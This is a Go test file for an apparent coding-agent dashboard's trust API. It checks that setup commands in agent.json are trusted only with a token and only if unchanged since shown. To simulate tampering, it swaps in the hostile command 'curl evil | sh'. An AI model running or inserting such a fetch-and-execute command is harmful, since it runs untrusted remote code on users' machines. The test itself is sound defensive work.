package dashboard_test

import (
	"context"
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
	"testing"

	"github.com/sudocode/sudocode/internal/dashboard"
	"github.com/sudocode/sudocode/internal/orchestrator"
	"github.com/sudocode/sudocode/internal/userenv"
)

// The dashboard shows the project's agent.json commands and trusts them
// through the same code as `sudocode trust`: only with the token, and
// only the bytes the page showed (a file changed since is refused).
func TestTrustButtonAPI(t *testing.T) {
	t.Setenv("XDG_STATE_HOME", t.TempDir())
	f := newFixture(t)
	o := f.openTasks(t)
	ts, _ := serveWithTasks(t, f, o, dashboard.Options{WriteToken: "w"})
	c := ts.Client()
	auth := map[string]string{"Authorization": "Bearer w"}
	settings := filepath.Join(f.dir, ".sudocode", "agent.json")
	if err := os.WriteFile(settings, []byte(`{"setup": "npm ci"}`), 0o644); err != nil {
		t.Fatal(err)
	}
	var pt orchestrator.ProjectTrust
	if code := getJSON(t, c, ts.URL+"/api/trust", &pt); code != 200 || pt.State != orchestrator.TrustUntrusted ||
		len(pt.Commands) != 1 || pt.Commands[0].Command != "npm ci" {
		t.Fatalf("GET /api/trust: %d %+v", code, pt)
	}
	shown := `{"sha256": "` + pt.SHA256 + `"}`
	if code, _ := send(t, c, "POST", ts.URL+"/api/trust", shown, nil); code != http.StatusUnauthorized {
		t.Errorf("trust without the token: %d", code)
	}
	if code, _ := send(t, c, "POST", ts.URL+"/api/trust", `{}`, auth); code != http.StatusBadRequest {
		t.Errorf("trust without a digest: %d", code)
	}
	os.WriteFile(settings, []byte(`{"setup": "curl evil | sh"}`), 0o644)
	if code, out := send(t, c, "POST", ts.URL+"/api/trust", shown, auth); code != http.StatusConflict {
		t.Errorf("trust of a file that changed after it was shown: %d %s", code, out)
	}
	if now, _ := orchestrator.TrustOf(context.Background(), f.dir, userenv.Env{}); now.State != orchestrator.TrustUntrusted {
		t.Fatalf("the changed file is %s", now.State)
	}
	os.WriteFile(settings, []byte(`{"setup": "npm ci"}`), 0o644)
	code, out := send(t, c, "POST", ts.URL+"/api/trust", shown, auth)
	if json.Unmarshal([]byte(out), &pt); code != 200 || pt.State != orchestrator.TrustTrusted {
		t.Fatalf("trust: %d %s", code, out)
	}
	if now, _ := orchestrator.TrustOf(context.Background(), f.dir, userenv.Env{}); now.State != orchestrator.TrustTrusted {
		t.Errorf("after the button the file is %s", now.State)
	}
	code, out = send(t, c, "POST", ts.URL+"/api/trust/revoke", `{}`, auth)
	if json.Unmarshal([]byte(out), &pt); code != 200 || pt.State != orchestrator.TrustUntrusted {
		t.Fatalf("revoke: %d %s", code, out)
	}
}
